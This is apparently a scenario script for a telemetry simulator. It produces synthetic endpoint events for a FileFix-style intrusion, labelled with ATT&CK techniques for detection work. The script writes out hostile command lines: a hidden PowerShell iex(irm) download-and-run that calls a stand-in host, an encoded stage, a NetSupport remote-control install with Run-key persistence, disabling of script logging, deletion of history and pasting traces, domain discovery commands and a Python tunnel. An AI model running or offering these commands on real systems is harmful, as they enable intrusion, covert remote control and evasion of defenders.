"""A page has the user paste a "path" into the file dialog's address bar: PowerShell hidden, a remote-control client and a
Python tunnel of its own, and cleaned traces of the pasting. Resembles FileFix chains that brought NetSupport and Interlock's
tools (2025)."""
import deeds
from scenery import Desktop

SETTING = {"start": "2025-07-21T14:09:30", "user": "HOLTHR\\b.keller", "home": "C:\\Users\\b.keller", "computer": "HR-LT-22",
           "os_version": (10, 0, 22631)}
PASTED = ('"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -W h -c "$x=\'files.docgate.example\';'
          'iex(irm https://$x/hr)"                                        # C:\\company\\internal\\HRPolicy.docx')
STAGE = ("powershell.exe -NoP -NonI -w hidden -enc "
         "SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4A"
         "RABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgA")
TYPED = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
CLIENT = r"\AppData\Roaming\MsgBridge"
PYTHON = r"\AppData\Roaming\WPy64-31401"
WEB, CONTROL, TUNNEL = ("203.0.113.90", 443), ("198.51.100.23", 443), ("198.51.100.24", 443)


def story(c):
    desktop = Desktop(c)
    for address, name in ((WEB[0], "files.docgate.example"), ("203.0.113.91", "geo.netsupportsoftware.com")):
        c.host(address, name)
    browser = c.process(r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", desktop.explorer,
                        started_before=True,
                        description="Microsoft Edge", **deeds.MICROSOFT)
    desktop.murmur(6)
    c.exchange(browser, WEB, 52000, [600, 500], [14_600] * 5)
    with deeds.told(c, "a command pasted into the address bar of the file dialog is run", "high",
                    ("T1204.004", "T1059.001", "T1204"), browser,
                    ("HRPolicy.docx", "TypedPaths", "irm", "docgate.example")) as helpers:
        pasted = deeds.tool(c, browser, PASTED)
        helpers.append(pasted)
        c.set_value(browser, TYPED + r"\url1", "REG_SZ",
                    "powershell.exe -W h -c \"iex(irm https://files.docgate.example/hr)\" # HRPolicy")
    desktop.resolve()
    c.exchange(pasted, WEB, 52010, [520, 220], [4300, 9000])
    with deeds.told(c, "goes on in a hidden PowerShell with an encoded command", "high",
                    ("T1027.010", "T1059.001", "T1564.003", "T1027"),
                    pasted, ("-enc", "SQBFAFg", "hidden")) as helpers:
        stage = deeds.tool(c, pasted, STAGE)
        helpers.append(stage)
    with c.behaviour("fetches an archive", "medium", "T1105", stage, ("bridge.zip", "docgate.example")):
        c.exchange(stage, WEB, 52011, [520, 240], [14_600] * 24)
        c.drop(stage, c.home + r"\AppData\Local\Temp\bridge.zip", 350_000)
    with c.behaviour("unpacks a remote-control client into the profile", "medium", ("T1219.002", "T1219", "T1105"), stage,
                     ("client32.exe", "client32.ini", "PCICL32.DLL", "MsgBridge")):
        c.read(stage, c.home + r"\AppData\Local\Temp\bridge.zip", 350_000)
        c.folder(stage, c.home + CLIENT)
        for name, size in (("client32.exe", 105_000), ("client32.ini", 700), ("PCICL32.DLL", 900_000),
                           ("HTCTL32.DLL", 320_000),
                           ("NSM.LIC", 250), ("msvcr100.dll", 250_000), ("remcmdstub.exe", 60_000),
                           ("TCCTL32.DLL", 300_000)):
            c.drop(stage, c.home + CLIENT + "\\" + name, size, 131072)
        c.delete(stage, c.home + r"\AppData\Local\Temp\bridge.zip")
    with c.behaviour("makes the client start with every log-on", "medium", "T1547.001", stage,
                     ("MsgBridge", "client32.exe")):
        c.set_value(stage, RUN + r"\MsgBridge", "REG_SZ", c.home + CLIENT + r"\client32.exe")
    client = c.spawn(stage, c.home + CLIENT + r"\client32.exe", is_64bit=False, company="NetSupport Ltd",
                     description="NetSupport Client Application")
    deeds.begin(c, client)
    c.load(client, c.home + CLIENT + r"\PCICL32.DLL", 0x11000000)
    c.read(client, c.home + CLIENT + r"\client32.ini", 700)
    c.exchange(client, ("203.0.113.91", 80), 52020, [110], [300])
    with c.behaviour("the client is under a stranger's control", "medium", ("T1219.002", "T1219", "T1071.001"), client,
                     ("198.51.100.23", "client32.exe")):
        for number in range(4):
            c.exchange(client, CONTROL, 52021 + number, [230, 190], [170, 420])
            c.wait(15)
    with c.behaviour("switches off the record of PowerShell's scripts", "high", ("T1685", "T1685.001", "T1112"), stage,
                     "EnableScriptBlockLogging"):
        key = r"HKCU\Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging"
        c.key(stage, key, new=True)
        c.set_value(stage, key + r"\EnableScriptBlockLogging", "REG_DWORD", 0)
    with c.behaviour("puts a line into the user's PowerShell profile", "medium", "T1546.013", stage, "profile.ps1"):
        c.folder(stage, c.home + r"\Documents\WindowsPowerShell")
        c.drop(stage, c.home + r"\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1", 310)
    with c.behaviour("deletes PowerShell's history", "medium", ("T1070.003", "T1070.004"), stage, "ConsoleHost_history.txt"):
        c.delete(stage, c.home + r"\AppData\Roaming\Microsoft\Windows\PowerShell\PSReadLine\ConsoleHost_history.txt")
    with c.behaviour("deletes the trace of the pasting", "medium", ("T1070.003", "T1070", "T1112", "T1070.009"), stage,
                     ("TypedPaths", "RunMRU")):
        c.delete_value(stage, TYPED + r"\url1")
        c.delete_key(stage, r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\RunMRU")
    c.exit(pasted)
    desktop.murmur(3)
    # The stranger looks around through the client.
    for what, severity, technique, line, about in (
            ("asks which domains are trusted", "medium", "T1482", "nltest /domain_trusts", "nltest"),
            ("asks who is a domain administrator", "medium", ("T1069.002", "T1087.002"),
             'net group "Domain Admins" /domain', "Domain Admins"),
            ("asks what rights the user has", "low", ("T1033", "T1069"), "whoami /all", "whoami")):
        with deeds.told(c, what, severity, technique, client, about) as helpers:
            helpers += deeds.command(c, client, line)
    with c.behaviour("brings a Python of its own", "medium", ("T1059.006", "T1105"), stage,
                     ("pythonw.exe", "python314.dll", "WPy64")):
        c.exchange(stage, WEB, 52040, [520, 240], [14_600] * 30)
        for name, size in (("pythonw.exe", 100_000), ("python314.dll", 900_000), ("python314.zip", 700_000),
                           ("bridge.pyw", 18_000)):
            c.drop(stage, c.home + PYTHON + "\\" + name, size, 262144)
    with deeds.told(c, "runs a script with that Python that keeps a tunnel open", "high",
                    ("T1572", "T1059.006", "T1090", "T1071.001"), stage,
                    ("198.51.100.24", "bridge.pyw", "pythonw.exe")) as helpers:
        python = c.spawn(stage, c.home + PYTHON + r"\pythonw.exe", '"%s\\pythonw.exe" bridge.pyw' % (c.home + PYTHON),
                         directory=c.home + PYTHON + "\\", company="Python Software Foundation")
        helpers.append(python)
        c.load(python, c.home + PYTHON + r"\python314.dll")
        c.read(python, c.home + PYTHON + r"\bridge.pyw", 18_000)
        c.net(python, "Connect", TUNNEL, 52050)
        for number in range(12):
            c.net(python, "Receive", TUNNEL, 52050, 120)
            c.net(python, "Connect", ("10.0.2.%d" % (20 + number), 445), 52060 + number)
            c.net(python, "Send", TUNNEL, 52050, 200)
            c.wait(1)
    c.exit(stage)
    desktop.murmur(5)
